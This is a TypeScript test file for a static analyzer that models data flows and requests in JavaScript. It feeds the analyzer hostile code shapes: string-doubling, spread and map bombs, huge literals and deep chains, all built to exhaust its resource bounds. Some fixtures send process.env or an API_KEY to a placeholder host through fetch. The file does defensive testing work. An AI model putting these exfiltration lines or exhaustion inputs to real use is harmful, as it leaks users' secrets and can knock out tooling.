import { describe, expect, it } from 'vitest';

import { withModel } from './read.ts';

const list = (count: number, make: (index: number) => string, separator = '\n'): string => Array.from({ length: count }, (_, index) => make(index)).join(separator);

interface Shape {
  readonly code: string;
  /** Which bound it reaches; without one it is answered in full. */
  readonly bound?: 'length' | 'depth' | 'items' | 'fuel' | 'size' | 'references';
}

const SHAPES: Readonly<Record<string, Shape>> = {
  'doubling text': { code: `const v0 = "ab";${list(40, (i) => `const v${i + 1} = v${i} + v${i};`)}fetch(v40)`, bound: 'length' },
  'doubling number': { code: `const v0 = 1;${list(40, (i) => `const v${i + 1} = v${i} + v${i};`)}fetch(v40)` },
  'long concatenation': { code: `fetch(${list(2000, (i) => `"a${i}"`, '+')})` },
  'alias chain': { code: `const a0 = "https://a.example/";${list(2000, (i) => `const a${i + 1} = a${i};`)}fetch(a2000)`, bound: 'depth' },
  'call cycle': { code: 'function a(x) { return b(x) } function b(x) { return a(x) } fetch(a("u"), { body: b(process.env) })' },
  'many calls': { code: `const { exec } = require("child_process");${list(30_000, (i) => `exec("ls ${i}");`)}` },
  'many references': { code: `const u = "https://a.example/";${list(20_000, () => 'fetch(u);')}` },
  'long member chain': { code: `fetch(process${'.a'.repeat(1000)})` },
  'nested functions': { code: `function f0(a) {${list(99, (i) => `return (function f${i + 1}(a) {`, '')} fetch(a) ${'})(a)'.repeat(99)}} f0(process.env)` },
  'long array': { code: `const a = [${list(100_000, (i) => `"s${i}"`, ',')}]; fetch(a.join(""))`, bound: 'items' },
  'large object': { code: `const o = {${list(50_000, (i) => `k${i}: "v${i}"`, ',')}}; fetch(o.k49999)` },
  'long literal': { code: `fetch("https://a.example/${'a'.repeat(1_000_000)}")` },
  'long template': { code: `fetch(\`https://a.example/\${x}${'a'.repeat(1_000_000)}\`)`, bound: 'length' },
  'map bomb': { code: `const a = [${list(60, () => '1', ',')}]; fetch(a.map(x => a.map(y => a.map(z => a.map(w => String.fromCharCode(x ^ y ^ z ^ w)).join("")).join("")).join("")).join(""))`, bound: 'fuel' },
  'padding': { code: 'fetch("a".padEnd(5e8)); fetch("a".repeat(1e9))', bound: 'length' },
  'spread bomb': { code: `const a0 = [1, 2];${list(40, (i) => `const a${i + 1} = [...a${i}, ...a${i}];`)}fetch(String.fromCharCode(...a40))`, bound: 'items' },
  'self reference': { code: 'const o = { o: null }; o.o = o; o.x = process.env; const p = p + 1; fetch(p, { body: o })' },
  'huge file': { code: `/*${'a'.repeat(2_100_000)}*/fetch("https://a.example")`, bound: 'size' },
  'names of Object.prototype': { code: 'const o = { __proto__: { x: 1 }, constructor: 2 }; fetch(o.toString + o["__proto__"] + process.env.__proto__ + process.env.constructor)' },
};

describe('hostile shapes end, and say so when a bound was reached', () => {
  it.each(Object.entries(SHAPES))('%s', (_name, { code, bound }) => {
    withModel(
      code,
      (model) => {
        model.flows();
        model.requests().forEach((request) => request.destination);
        model.commandTexts();
        model.fileOperations();
        expect(model.incomplete).toBe(bound !== undefined);
        if (bound) expect(model.incompleteAt.map((reason) => reason.bound)).toContain(bound);
        // Work that is paid after the allowance is used up only finishes what was begun.
        expect(model.fuel.used).toBeLessThan(model.fuel.limit * 8);
      },
      { sourceType: 'commonjs' },
    );
  });

  it('lists nothing for a file that is too large', () => {
    withModel(SHAPES['huge file']?.code ?? '', (model) => {
      expect(model.tooLarge).toBe(true);
      expect(model.requests()).toEqual([]);
    });
  });

  it('a file without anything of interest costs no fuel', () => {
    withModel('export function add(a, b) { return a + b }', (model) => {
      model.flows();
      model.requests();
      expect(model.fuel.used).toBe(0);
    });
  });
});

describe('versions of ESLint', () => {
  it.each([9, 10] as const)('ESLint %i', (eslint) => {
    const flows = withModel('import { env as e } from "node:process"; fetch("https://a.example", { body: e.API_KEY })', (model) => model.flows().map((flow) => flow.destination?.host?.value), { eslint });
    expect(flows).toEqual(['a.example']);
  });
});
